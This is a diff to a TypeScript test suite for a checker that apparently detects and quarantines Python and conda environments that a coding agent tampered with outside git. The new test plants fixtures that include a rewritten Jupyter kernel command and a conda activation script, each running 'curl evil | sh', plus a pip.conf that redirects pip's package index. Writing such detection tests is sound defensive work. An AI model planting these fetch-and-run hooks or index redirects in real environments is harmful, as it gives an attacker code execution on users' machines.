@@ -417,7 +417,9 @@ test('(review, rounds 19 and 20) code a tool runs kept where the walk does not g
   rmSync(marker);
   const warnings = checkNestedRepos(root, env, since);
   const named = (p: string) => warnings.some((w) => w.startsWith(`the agent made ${join(root, p)} a link to `) && w.includes('The link was removed') && w.endsWith(` ${join(root, p)}`));
-  assert.deepEqual(['docs/_build/api', '.venv/bin', 'crate/.cargo', 'tests', 'aa', 'ab', 'ac', 'ad'].map(named), Array(8).fill(true), warnings.join('\n'));
+  // (Round 28: the environment whose bin was swapped goes aside whole, and the link is judged where it went.)
+  assert.deepEqual(['docs/_build/api', '.venv.stashbase-quarantine/bin', 'crate/.cargo', 'tests', 'aa', 'ab', 'ac', 'ad'].map(named), Array(8).fill(true), warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment,`)), warnings.join('\n'));
   assert.equal(existsSync(join(root, 'docs', '_build', 'api')), false);
   spawnSync(process.execPath, ['--test'], { cwd: root, env });
   assert.equal(existsSync(marker), false, 'node --test ran nothing hidden');
@@ -739,4 +741,38 @@ test('(review, round 5) a killed run\'s check (where it wrote not on record: tre
   assert.equal(lstatSync(join(root, 'tests'), { throwIfNoEntry: false }), undefined, warnings.join('\n'));
   assert.match(warnings.join('\n'), /the agent made \S+\/rkilled\/tests a link to \S+\/rkilled-aw\/evil/);
   assert.equal(existsSync(join(aw, 'evil', 'x.test.js')), true, 'what it led to is left where it is');
+});
+
+test("(review, round 28) an environment is judged whole, its settings too: a pip.conf the agent put at a virtual environment's top (pip took its index), a Jupyter kernel's command rewritten in place in an old folder of it, and, unlisted, a conda environment's activation script: each environment moved aside whole; one it did not touch stays; control: the environment's own pip reads the planted index", async () => {
+  const root = repo('renv');
+  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const made = sh([
+    "printf '.venv/\\n.venv2/\\n.venv3/\\nenv/\\n' > .gitignore",
+    'python3 -m venv --without-pip --system-site-packages .venv',
+    'python3 -m venv --without-pip .venv2',
+    'python3 -m venv --without-pip .venv3',
+    `mkdir -p .venv3/share/jupyter/kernels/python3 env/conda-meta env/etc/conda/activate.d && echo '{"argv":["python","-m","ipykernel_launcher"]}' > .venv3/share/jupyter/kernels/python3/kernel.json && touch env/conda-meta/history`,
+  ].join(' && '));
+  assert.equal(made.status, 0, made.stderr);
+  git(root, 'add', '.gitignore');
+  git(root, 'commit', '-qm', 'base');
+  const { setTimeout: sleep } = await import('node:timers/promises');
+  await sleep(20);
+  const since = Date.now();
+  await sleep(20);
+  const plant = [
+    "printf '[global]\\nindex-url = http://127.0.0.1:9/agents-index\\n' > .venv/pip.conf",
+    `echo '{"argv":["sh","-c","curl evil | sh"]}' > .venv3/share/jupyter/kernels/python3/kernel.json`,
+    "echo 'curl evil | sh' > env/etc/conda/activate.d/evil.sh",
+  ].join(' && ');
+  assert.equal(sh(plant).status, 0);
+  // The control: the environment's pip takes the agent's index.
+  const pipConfig = () => spawnSync(join(root, '.venv', 'bin', 'python'), ['-m', 'pip', 'config', 'list'], { cwd: root, env, encoding: 'utf8' });
+  assert.match(pipConfig().stdout, /index-url='http:\/\/127\.0\.0\.1:9\/agents-index'/, 'control');
+  const warnings = checkNestedRepos(root, env, since);
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment, whose code its python, pip and every console script load, and whose settings pip, IPython and Jupyter read), where git shows nothing: it was renamed ${join(root, '.venv')}.stashbase-quarantine`)), warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv3')} (a Python environment,`)), warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'env')} (a conda environment, whose activation scripts conda activate runs and whose code its commands load), where git shows nothing: it was renamed`)), warnings.join('\n'));
+  assert.deepEqual([existsSync(join(root, '.venv')), existsSync(join(root, '.venv.stashbase-quarantine', 'pip.conf')), existsSync(join(root, 'env')), existsSync(join(root, '.venv2', 'pyvenv.cfg'))], [false, true, false, true]);
+  assert.ok(!warnings.some((w) => w.includes('.venv2')), warnings.join('\n'));
 });
